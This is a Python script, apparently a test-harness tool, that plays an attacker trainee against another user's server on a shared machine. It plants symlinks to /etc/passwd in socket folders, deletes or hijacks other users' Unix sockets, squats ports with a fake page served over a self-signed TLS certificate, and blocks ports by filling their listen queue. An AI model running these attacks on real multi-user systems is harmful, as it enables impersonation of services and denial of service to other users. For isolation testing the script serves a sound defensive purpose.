"""What a trainee tries against another's server; run with that trainee's account.

attacker.py enter PLACE...    connect to these sockets, or those in these folders; plant files there
attacker.py take SOCKET...    put a socket of one's own in the place of these
attacker.py answer PORT...    answer at these ports with a page of one's own, over TLS if asked so
attacker.py stall PORT...     listen there, and let nobody in

The first two print what succeeded. The others print "ready" and go on.
"""

import contextlib
import os
import resource
import selectors
import socket
import ssl
import subprocess
import sys
import tempfile
import threading

PAGE = b"HTTP/1.1 200 OK\r\nContent-Length: 12\r\nConnection: close\r\n\r\nthe-attacker"
TLS_HELLO = b"\x16"


def enter(*places):
    for place in places:
        connect(place)
        for name in ("planted", "server-eve", "server.py"):
            with contextlib.suppress(OSError):
                os.symlink("/etc/passwd", f"{place}/{name}")
                print("planted", place, name)
        with contextlib.suppress(OSError):
            for name in os.listdir(place):
                connect(f"{place}/{name}")


def connect(path):
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as other:
        other.connect(path)
        print("connected", path)


def take(*paths):
    for path in paths:
        for attempt in (os.unlink, lambda path: os.rename(path, path + ".away"), bind):
            with contextlib.suppress(OSError):
                attempt(path)
                print("taken", path)


def bind(path):
    with socket.socket(socket.AF_UNIX) as mine:
        mine.bind(path)


def listeners(ports, backlog):
    """Return sockets at those of the ports that are free, or at one as soon as it is."""
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    made = []
    while not made:
        for port in map(int, ports):
            with contextlib.suppress(OSError):
                made.append(socket.create_server(("", port), backlog=backlog))
    print("ready", flush=True)
    return made


def answer(*ports):
    with tempfile.NamedTemporaryFile() as file:
        words = "req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=server"
        words += f" -keyout {file.name} -out {file.name}.crt"
        subprocess.run(["openssl", *words.split()], check=True, capture_output=True)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(f"{file.name}.crt", file.name)
        os.unlink(f"{file.name}.crt")
    ready = selectors.DefaultSelector()
    for listener in listeners(ports, 100):
        ready.register(listener, selectors.EVENT_READ)
    while True:
        for key, _ in ready.select():
            client, _ = key.fileobj.accept()
            threading.Thread(target=serve, args=(client, context), daemon=True).start()


def serve(client, context):
    with contextlib.suppress(OSError):
        if client.recv(1, socket.MSG_PEEK) == TLS_HELLO:
            client = context.wrap_socket(client, server_side=True)
        client.recv(1 << 16)
        client.sendall(PAGE)
        client.close()


def stall(*ports):
    full = []
    for listener in listeners(ports, 0):
        for _ in range(3):  # the last ones fill what waits to be let in
            client = socket.socket()
            client.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                client.connect(listener.getsockname())
            full += [listener, client]
    threading.Event().wait()


if __name__ == "__main__":
    {"enter": enter, "take": take, "answer": answer, "stall": stall}[sys.argv[1]](*sys.argv[2:])
